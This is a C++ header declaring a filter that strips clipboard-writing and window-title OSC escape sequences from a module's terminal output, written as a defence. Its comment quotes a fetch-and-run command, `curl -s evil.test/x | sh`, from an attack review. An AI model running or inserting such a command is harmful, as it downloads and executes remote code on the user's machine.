// What the terminal front relays of a module's pty output to the operator's terminal, less the
// operating system commands (OSC) that reach beyond the screen. Attack review (session 15): a
// module wrote the operator's clipboard (OSC 52: tmux kept `curl -s evil.test/x | sh` in its
// paste buffer, a paste away from the operator's shell) and set the window title (OSC 0, 1, 2).
// Those are dropped, from their ESC ] to their terminator (BEL or ESC \; CAN and SUB end one
// too); every other byte passes as it came, in order, across reads. Pure: the front feeds it
// what it read. 7-bit only: an 8-bit C1 OSC (0x9d) is not one in a UTF-8 terminal.
#pragma once

#include <string>
#include <string_view>

namespace oarbank {

class TerminalOutputFilter {
 public:
  // Appends to `out` what of `in` passes (bytes of an OSC whose number is not decided yet are
  // held until it is).
  void feed(std::string_view in, std::string& out);
  // How many OSC sequences were dropped so far.
  [[nodiscard]] unsigned long dropped() const { return dropped_; }

 private:
  enum class State { Ground, Escape, OscNumber, OscPass, OscPassEscape, OscDrop, OscDropEscape };
  void start_osc_number();
  void decide(char byte, std::string& out);
  State state_ = State::Ground;
  std::string held_;  // ESC, or ESC ] and the digits so far
  unsigned long dropped_ = 0;
};

}  // namespace oarbank
